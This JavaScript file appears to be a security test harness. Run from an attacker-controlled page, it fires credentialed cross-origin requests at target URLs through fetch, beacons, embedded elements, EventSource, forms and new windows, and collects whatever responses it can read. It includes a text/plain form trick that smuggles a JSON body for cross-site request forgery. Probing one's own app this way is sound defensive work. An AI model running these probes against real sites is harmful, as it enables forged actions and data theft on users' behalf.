// Runs in the pages of the attacker: every way in which a page can make a browser send a request to another origin.

/** Sends each request in every way. Returns what it could read of the responses. */
globalThis.attack = async (targets) => {
  const WAIT_MS = 500
  const CONCURRENCY = 6
  const readable = []
  const within = (work) => Promise.race([work, new Promise((resolve) => setTimeout(resolve, WAIT_MS))])

  const tryFetch = async (way, { url }, init) => {
    try {
      const response = await fetch(url, { credentials: 'include', ...init })
      if (response.type !== 'opaque') readable.push(`${way}: ${response.status} ${await response.text()}`)
    } catch {
      // The browser refused to send the request or to show the response.
    }
  }

  const tryElement = async (name, attributes) => {
    const element = document.createElement(name)
    const loaded = new Promise((resolve) => {
      element.onload = () => resolve(true)
      element.onerror = () => resolve(false)
    })
    for (const [attribute, value] of Object.entries(attributes)) element.setAttribute(attribute, value)
    document.body.append(element)
    const isLoaded = await within(loaded)
    if (name === 'iframe') readFrame(element)
    // Frames and objects also load an error page.
    else if (isLoaded === true && name !== 'object') readable.push(`${name}: loaded`)
    element.remove()
  }

  const readFrame = (element) => {
    try {
      const text = element.contentDocument?.body?.textContent ?? ''
      if (text.includes('"')) readable.push(`frame: ${text}`)
    } catch {
      // Another origin.
    }
  }

  let count = 0
  const tryForm = async ({ url, body }, method, enctype, isTopLevel) => {
    count += 1
    const form = document.createElement('form')
    Object.assign(form, { action: url, method, enctype })
    const field = document.createElement('input')
    // As text/plain, the body is `{…,"_":"="}`, which is JSON.
    const json = (body ?? '{}').slice(0, -1)
    field.name = `${json}${json.length > 1 ? ',' : ''}"_":"`
    field.value = '"}'
    form.append(field)
    const target = document.createElement('iframe')
    target.name = `target-${count}`
    form.target = isTopLevel ? '_blank' : target.name
    document.body.append(target, form)
    // Set now, because the empty frame has just loaded.
    const loaded = new Promise((resolve) => {
      target.onload = resolve
    })
    form.submit()
    await within(isTopLevel ? Promise.resolve() : loaded)
    readFrame(target)
    target.remove()
    form.remove()
  }

  const tryEventSource = async ({ url }) => {
    const source = new EventSource(url, { withCredentials: true })
    await within(
      new Promise((resolve) => {
        source.onerror = resolve
        source.onmessage = ({ data }) => {
          readable.push(`event source: ${data}`)
          resolve(null)
        }
      }),
    )
    source.close()
  }

  const tryTarget = async (target) => {
    const { method, url } = target
    const isWrite = method !== 'GET'
    const sent = isWrite && target.body !== null ? { body: target.body } : {}
    const json = { 'content-type': 'application/json' }
    const own = { 'x-meetwright-console': '1' }
    const text = { 'content-type': 'text/plain' }
    await Promise.all([
      tryFetch('fetch, cors', target, { method, ...sent }),
      tryFetch('fetch, JSON', target, { method, headers: json, ...sent }),
      tryFetch('fetch, our header', target, { method, headers: { ...json, ...own }, ...sent }),
      tryFetch('fetch, our header, no-cors', target, {
        method: isWrite ? 'POST' : 'GET',
        mode: 'no-cors',
        headers: { ...text, ...own },
        ...sent,
      }),
      tryFetch('fetch, text/plain', target, { method: isWrite ? 'POST' : 'GET', headers: text, ...sent }),
      tryFetch('fetch, no-cors', target, { method: isWrite ? 'POST' : 'GET', mode: 'no-cors', ...sent }),
      tryFetch('fetch, POST without body', target, { method: 'POST', mode: 'no-cors' }),
      tryFetch('fetch, kept alive', target, { method, keepalive: true, ...sent }),
      Promise.resolve(navigator.sendBeacon(url, target.body ?? '')),
      Promise.resolve(navigator.sendBeacon(url, new Blob([target.body ?? ''], { type: 'application/json' }))),
      tryElement('img', { src: url }),
      tryElement('script', { src: url }),
      tryElement('script', { src: url, crossorigin: 'use-credentials' }),
      tryElement('script', { src: url, type: 'module' }),
      tryElement('link', { rel: 'stylesheet', href: url }),
      tryElement('object', { data: url }),
      tryElement('iframe', { src: url }),
      tryEventSource(target),
      tryForm(target, 'post', 'application/x-www-form-urlencoded', false),
      tryForm(target, 'post', 'multipart/form-data', false),
      tryForm(target, 'post', 'text/plain', false),
      tryForm(target, 'get', 'text/plain', false),
    ])
    // One window per kind of navigation.
    await tryForm(target, 'post', 'text/plain', true)
    window.open(url)
  }

  for (let from = 0; from < targets.length; from += CONCURRENCY)
    await Promise.all(targets.slice(from, from + CONCURRENCY).map(tryTarget))
  return readable
}
